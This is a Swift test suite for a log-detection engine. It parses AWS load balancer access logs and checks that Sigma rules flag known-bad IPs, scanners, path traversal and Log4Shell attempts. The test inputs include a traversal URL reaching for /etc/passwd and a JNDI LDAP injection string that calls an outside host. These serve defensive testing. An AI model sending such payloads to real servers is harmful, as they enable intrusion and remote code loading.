import FirebreakLogs
import Foundation
import Testing
@testable import FirebreakDetection
import FirebreakTestSupport

/// ALB access log entries as rules see them (`logsource: {product: aws, service: elb}`), and the elb pack's rules
/// each firing on entries written from the ELB user guide's examples.
@Suite struct ALBDetectionTests {
    static func line(client: String = "192.168.131.39:2817", status: Int = 200, url: String = "http://www.example.com:80/",
                     userAgent: String = "curl/7.46.0", time: String = "2026-11-30T10:05:00.186641Z") -> String {
        #"http \#(time) app/my-loadbalancer/50dc6c495c0c9188 \#(client) 10.0.0.1:80 0.000 0.001 0.000 \#(status) \#(status) 34 366 "GET \#(url) HTTP/1.1" "\#(userAgent)" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337262-36d228ad5d99923122bbe354" "-" "-" 0 2026-11-30T10:04:59.364000Z "forward" "-" "-" "10.0.0.1:80" "\#(status)" "-" "-" TID_1234abcd5678ef90"#
    }

    static func event(_ line: String) throws -> DetectionEvent {
        DetectionEvent(DecodedEvent(event: .alb(try ALBLogParser.parse(line)), context: LogContext(recordIndex: 0)), receivedMillis: 5)
    }

    @Test func fieldsLogSourceAndTime() throws {
        let e = try Self.event(Self.line())
        #expect(e.logSource == .elb && e.logSource == LogSource(product: "aws", service: "elb"))
        #expect(e.kind == .elb)
        #expect(e.timeMillis == ISO8601Millis.parse("2026-11-30T10:05:00.186Z"))
        #expect(e.values(at: FieldPath("client_ip")) == [.address(IPAddress("192.168.131.39")!)])
        #expect(e.values(at: FieldPath("client_port")) == [.int(2817)])
        #expect(e.values(at: FieldPath("elb_status_code")) == [.int(200)])
        #expect(e.values(at: FieldPath("target_processing_time")) == [.double(0.001)])
        #expect(e.values(at: FieldPath("request_verb")) == [.string("GET")])
        #expect(e.values(at: FieldPath("ssl_cipher")).isEmpty && e.values(at: FieldPath("nope")).isEmpty)
        #expect(e.eventKey.hasPrefix("elb:http 2026-11-30T10:05:00"))
        // Without a parsable time, the CloudWatch Logs timestamp, then the receive time.
        let untimed = try Self.event(Self.line(time: "2026-11-30T10:05:00.186641Z").replacingOccurrences(of: "http 2026-11-30T10:05:00.186641Z", with: "http 2026-13-30T10:05:00.186641Z"))
        #expect(untimed.timeMillis == 5)
    }

    @Test func rulesMatchTypedFields() throws {
        let rule = try SigmaTestSupport.compile("""
            title: t
            logsource: {product: aws, service: elb}
            detection:
                selection:
                    elb_status_code|gte: 400
                    client_ip|cidr: 198.51.100.0/24
                    request_verb: get
                keywords: ['zgrab']
                condition: selection and keywords
            """)
        #expect(rule.matches(try Self.event(Self.line(client: "198.51.100.9:1", status: 404, userAgent: "Mozilla/5.0 zgrab/0.x"))))
        #expect(!rule.matches(try Self.event(Self.line(client: "198.51.100.9:1", status: 200, userAgent: "Mozilla/5.0 zgrab/0.x"))))
        #expect(!rule.matches(try Self.event(Self.line(client: "192.0.2.9:1", status: 404, userAgent: "Mozilla/5.0 zgrab/0.x"))))
        #expect(!rule.matches(try Self.event(Self.line(client: "198.51.100.9:1", status: 404))))
    }

    static let root = TestPaths.packageRoot
    static let sources = DetectionSources(rulePaths: [root.appendingPathComponent("config/rules").path],
                                          intel: IntelConfiguration(folder: root.appendingPathComponent("config/intel").path))

    @Test func eachPackRuleFiresWithTheLoadBalancerAsResource() throws {
        let (set, report) = DetectionEngine.load(Self.sources)
        #expect(report.problems.isEmpty, "\(report.problems)")
        func findings(_ lines: [String]) throws -> [Finding] { set.evaluate(try lines.map(Self.event)) }
        let knownBad = "b50c01da-46a6-430c-82e4-c3f94215be2e", exploit = "edc5655a-3280-450a-b233-30ddee6310ee"
        let log4shell = "b2cff571-61c4-4de6-925b-ba10f1ecd45b", scanner = "0a92930b-c3bf-4148-9edb-4665fbd73491"

        let bad = try findings([Self.line(client: "203.0.113.66:4000")]).filter { $0.ruleID == knownBad }
        #expect(bad.count == 1)
        #expect(bad.first?.resource.type == "load-balancer")
        #expect(bad.first?.resource.id == "app/my-loadbalancer/50dc6c495c0c9188")
        #expect(bad.first?.matchedFields["client_ip"] == [.address(IPAddress("203.0.113.66")!)])
        #expect(try findings([Self.line(url: "http://www.example.com:80/../../etc/passwd")]).contains { $0.ruleID == exploit })
        #expect(try findings([Self.line(userAgent: "${jndi:ldap://198.51.100.9/a}")]).contains { $0.ruleID == log4shell })
        #expect(try findings([Self.line()]).allSatisfy { ![knownBad, exploit, log4shell, scanner].contains($0.ruleID) })

        let probes = (0..<25).map { Self.line(client: "198.51.100.77:\(40000 + $0)", status: 404, url: "http://www.example.com:80/p\($0)",
                                               time: String(format: "2026-11-30T10:05:%02d.000000Z", $0 * 2)) }
        let scan = try findings(probes).filter { $0.ruleID == scanner }
        #expect(scan.count == 1)
        #expect(scan.first?.correlation?.groupKey == ["client_ip": "198.51.100.77"])
        #expect(scan.first?.resource.type == "load-balancer")
        #expect(try findings(Array(probes.prefix(19))).allSatisfy { $0.ruleID != scanner })
    }
}
